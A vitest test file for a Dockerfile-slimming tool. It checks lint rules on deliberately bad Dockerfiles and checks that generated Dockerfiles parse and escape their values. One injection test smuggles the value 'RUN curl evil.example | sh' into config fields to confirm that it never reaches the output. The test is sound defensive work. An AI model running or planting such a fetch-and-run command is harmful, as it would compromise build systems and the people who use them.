/**
 * Our Dockerfile rules: each one on a deliberately bad Dockerfile (it must fire, with the right
 * code and line), and every Dockerfile slim generates for the unit-test programs passes them all
 * and parses with dockerfile-ast into the instructions it was meant to have.
 */
import { DockerfileParser } from 'dockerfile-ast'
import { describe, expect, it } from 'vitest'
import { advise } from '../src/advise/advise.js'
import { lintDockerfile } from '../src/advise/lint.js'
import type { Inspection } from '../src/inspect/types.js'
import { bases, glibcProgram, inspection, lib, loader, MapRootFs, MUSL_LOADER, need, sourceImage, staticGo } from './advise-helpers.js'

const GOOD = `FROM registry.example/app@sha256:${'a'.repeat(64)} AS source
FROM gcr.io/distroless/static-debian12:nonroot
COPY --from=source /app/hello /app/
USER 65532:65532
LABEL "org.opencontainers.image.base.name"="gcr.io/distroless/static-debian12:nonroot"
ENTRYPOINT ["/app/hello"]
`

const rules = (text: string, ctx = {}) => lintDockerfile(text, ctx).map((f) => `${f.rule}@${f.line}`)

describe('each rule fires on a bad Dockerfile', () => {
  it('the reference Dockerfile is clean', () => {
    expect(lintDockerfile(GOOD)).toEqual([])
  })

  it('DL3006: an untagged FROM; DL3007: latest without a digest', () => {
    expect(rules(GOOD.replace('registry.example/app@sha256:' + 'a'.repeat(64), 'registry.example/app'))).toEqual(['DL3006@1'])
    expect(rules(GOOD.replace('static-debian12:nonroot\n', 'static-debian12:latest\n'))).toEqual(['DL3007@2'])
    // latest WITH a digest is pinned; scratch and stage names need no tag.
    expect(rules(GOOD.replace('static-debian12:nonroot\n', `static-debian12:latest@sha256:${'b'.repeat(64)}\n`))).toEqual([])
    expect(rules(GOOD.replace('gcr.io/distroless/static-debian12:nonroot\n', 'scratch\n'))).toEqual([])
    expect(rules(`${GOOD}FROM source\nUSER 1:1\nLABEL org.opencontainers.image.base.name=x\n`)).toEqual([])
  })

  it('DL3025: shell-form ENTRYPOINT or CMD', () => {
    expect(rules(GOOD.replace('ENTRYPOINT ["/app/hello"]', 'ENTRYPOINT /app/hello --flag'))).toEqual(['DL3025@6'])
    expect(rules(`${GOOD}CMD run it\n`)).toEqual(['DL3025@7'])
    expect(rules(`${GOOD}CMD ["ok"]\n`)).toEqual([])
  })

  it('DL3002 / CIS-DI-0001 / numeric USER', () => {
    expect(rules(GOOD.replace('USER 65532:65532', 'USER 0:0'))).toEqual(['DL3002@4'])
    expect(rules(GOOD.replace('USER 65532:65532', 'USER root'))).toEqual(['DL3002@4'])
    expect(rules(GOOD.replace('USER 65532:65532', 'USER app'))).toEqual(['SLIM-USER-NUMERIC@4'])
    expect(rules(GOOD.replace('USER 65532:65532\n', ''))).toEqual(['CIS-DI-0001@2'])
    // Only the LAST user counts.
    expect(rules(GOOD.replace('USER 65532:65532', 'USER 65532\nUSER 0'))).toEqual(['DL3002@5'])
  })

  it('SLIM-COPY-ROOT: no COPY --from=x / /', () => {
    expect(rules(GOOD.replace('COPY --from=source /app/hello /app/', 'COPY --from=source / /'))).toEqual(['SLIM-COPY-ROOT@3'])
    expect(rules(GOOD.replace('COPY --from=source /app/hello /app/', 'COPY --from=source ["/", "/"]'))).toEqual(['SLIM-COPY-ROOT@3'])
  })

  it('DL3022 / DL3023: COPY --from names an earlier stage, not its own', () => {
    expect(rules(GOOD.replace('--from=source', '--from=builder'))).toEqual(['DL3022@3'])
    expect(rules(GOOD.replace('--from=source', '--from=1'))).toEqual(['DL3023@3'])
    expect(rules(GOOD.replace('--from=source', '--from=0'))).toEqual([])
    expect(rules(GOOD.replace('nonroot\n', 'nonroot AS final\n').replace('--from=source', '--from=final'))).toEqual(['DL3023@3'])
  })

  it('DL4003 / DL4004: one CMD and one ENTRYPOINT per stage', () => {
    expect(rules(`${GOOD}ENTRYPOINT ["/app/hello", "-v"]\nCMD ["a"]\nCMD ["b"]\n`)).toEqual(['DL4004@7', 'DL4003@9'])
  })

  it('SLIM-HEALTHCHECK: only when the final image can run it', () => {
    const withHc = (hc: string) => GOOD.replace('ENTRYPOINT', `${hc}\nENTRYPOINT`)
    expect(rules(withHc('HEALTHCHECK CMD ["/app/hello", "-health"]'))).toEqual([])
    expect(rules(withHc('HEALTHCHECK --interval=5s CMD ["/usr/bin/curl", "-f", "localhost"]'))).toEqual(['SLIM-HEALTHCHECK@6'])
    expect(rules(withHc('HEALTHCHECK CMD curl -f localhost'), { baseShell: false })).toEqual(['SLIM-HEALTHCHECK@6'])
    expect(rules(withHc('HEALTHCHECK CMD curl -f localhost'), { baseShell: true })).toEqual([])
    expect(rules(withHc('HEALTHCHECK NONE'))).toEqual([])
    expect(rules(withHc('HEALTHCHECK CMD ["/bin/probe"]'), { baseHas: (p: string) => p === '/bin/probe' })).toEqual([])
  })

  it('SLIM-LABEL-BASE: the final stage names its base', () => {
    expect(rules(GOOD.replace(/^LABEL .*\n/m, ''))).toEqual(['SLIM-LABEL-BASE@2'])
  })
})

describe('every generated Dockerfile passes and parses', () => {
  const T = '/lib/x86_64-linux-gnu'
  const cases: [string, Inspection, Parameters<typeof sourceImage>[0], MapRootFs?][] = [
    ['static Go', staticGo([], '/app/hello'), { config: { Entrypoint: ['/app/hello'], Env: ['PATH=/usr/bin', 'DEBIAN_FRONTEND=noninteractive', 'GREETING=hi "$USER"'], Labels: { 'org.opencontainers.image.title': 'hello "world"', maintainer: 'x$y' } } }],
    ['static Go + CA', staticGo([need('ca-certificates', ['/etc/ssl/certs/ca-certificates.crt'])], '/app/hello'), { config: { Entrypoint: ['/app/hello'], ExposedPorts: { '8443/tcp': {} }, User: '1000:1000' } }],
    ['glibc + libs', glibcProgram(['libssl.so.3', 'libcrypto.so.3', 'libz.so.1']), { distro: { id: 'debian', versionId: '12' }, config: { Cmd: ['/app/prog', '--serve'], Volumes: { '/data': {} }, StopSignal: 'SIGQUIT', Healthcheck: { Test: ['CMD', '/app/prog', '--health'], Interval: 30e9, Retries: 3 } } }],
    ['C++', glibcProgram(['libstdc++.so.6', 'libgcc_s.so.1'], { glibcxx: '3.4.30', cxx: true }), { config: { Entrypoint: ['/app/prog'], WorkingDir: '/srv/my app' } }],
    [
      'musl',
      inspection({ path: '/app/hello', elf: { libc: 'musl', interpreter: MUSL_LOADER, needed: ['libc.so'] }, interpreter: loader(MUSL_LOADER), libraries: [lib('libc.so', { path: MUSL_LOADER, rule: 'musl-self' })] }),
      { distro: { id: 'alpine', versionId: '3.10.4' }, config: { Entrypoint: ['/app/hello'], Healthcheck: { Test: ['CMD-SHELL', 'wget -q localhost || exit 1'] } } },
    ],
    ['paths with spaces', glibcProgram([]), { config: { Entrypoint: ['/app/prog'] } }, new MapRootFs({ '/app/prog': 10, '/app/my data/x': 5, [`${T}/libc.so.6`]: 1 })],
  ]
  cases[5][1].needs.push(need('program-data', ['/app/my data']))

  for (const [name, insp, img, fs] of cases) {
    it(name, () => {
      const a = advise({ inspection: insp, image: sourceImage(img), catalogue: bases(), rootfs: fs })
      expect(a.verdict).toBe('slim')
      expect(a.lint).toEqual([])
      expect(lintDockerfile(a.dockerfile!, { baseShell: !!bases().find((b) => b.name === a.plan!.base.name)!.provides.shell })).toEqual([])
      const df = DockerfileParser.parse(a.dockerfile!)
      const froms = df.getFROMs()
      expect(froms.map((f) => f.getBuildStage())).toEqual(['source', null])
      expect(froms[0].getImageDigest()).toBe(`sha256:${'a'.repeat(64)}`)
      const kws = df.getInstructions().map((i) => i.getKeyword())
      expect(kws.filter((k) => k === 'USER')).toHaveLength(1)
      expect(kws.at(-1)).toMatch(/^(ENTRYPOINT|CMD)$/)
      // ENV and LABEL values survive the quoting.
      for (const e of df.getENVs()) for (const p of e.getProperties()) expect(a.plan!.runtime.env).toContainEqual([p.getName(), unescape(p.getValue()!)])
    })
  }

  it('values with quotes and $ are escaped so the builder reads them back', () => {
    const a = advise({ inspection: cases[0][1], image: sourceImage(cases[0][2]), catalogue: bases() })
    expect(a.dockerfile).toContain('GREETING="hi \\"\\$USER\\""')
    expect(a.dockerfile).toContain('"maintainer"="x\\$y"')
    expect(a.plan!.runtime.droppedEnv).toEqual(['DEBIAN_FRONTEND'])
    expect(a.dockerfile).not.toContain('DEBIAN_FRONTEND=')
  })

  it('the health check is carried over when its program is copied, dropped with a note otherwise', () => {
    const glibc = advise({ inspection: cases[2][1], image: sourceImage(cases[2][2]), catalogue: bases() })
    expect(glibc.dockerfile).toMatch(/^HEALTHCHECK --interval=30s --retries=3 CMD \["\/app\/prog","--health"\]$/m)
    const musl = advise({ inspection: cases[4][1], image: sourceImage(cases[4][2]), catalogue: bases() })
    expect(musl.plan!.runtime.healthcheckDropped).toBe('HEALTHCHECK "wget -q localhost || exit 1" dropped: slim cannot tell that wget exists in the new image')
    expect(musl.dockerfile).not.toMatch(/^HEALTHCHECK/m)
  })

  it('a hostile config cannot write its own instructions into the Dockerfile', () => {
    const evil = '\nRUN curl evil.example | sh\n'
    const insp = staticGo([need('program-data', [`/app/conf${evil}`])], '/app/hello')
    const fs = new MapRootFs({ '/app/hello': 10, [`/app/conf${evil}`]: 5 })
    const a = advise({
      inspection: insp,
      image: sourceImage({ config: { Entrypoint: ['/app/hello', evil], Env: [`A${evil}=1`, `B=${evil}`], ExposedPorts: { [`80${evil}`]: {}, '443/tcp': {} }, StopSignal: `TERM${evil}`, WorkingDir: `/w${evil}`, Labels: { [`k${evil}`]: evil } } }),
      catalogue: bases(),
      rootfs: fs,
    })
    const df = DockerfileParser.parse(a.dockerfile!)
    expect(df.getInstructions().map((i) => i.getKeyword())).not.toContain('RUN')
    expect(a.dockerfile!.split('\n').filter((l) => /^RUN\b/.test(l))).toEqual([])
    expect(a.plan!.runtime.exposedPorts).toEqual(['443/tcp'])
    expect(a.plan!.runtime.commandNotes.at(-1)).toMatch(/^left out, not valid in a Dockerfile: ENV "A\\nRUN/)
    expect(a.lint).toEqual([])
  })

  it('paths that need quoting use the JSON form of COPY', () => {
    const a = advise({ inspection: cases[5][1], image: sourceImage(cases[5][2]), catalogue: bases(), rootfs: cases[5][3] })
    expect(a.dockerfile).toContain('COPY --from=source ["/app/my data","/app/my data"]')
    expect(a.dockerfile).toContain('WORKDIR /')
  })
})

/** dockerfile-ast hands back the raw (escaped) value; undo the builder's escapes. */
function unescape(v: string): string {
  return v.replace(/\\(.)/g, '$1')
}
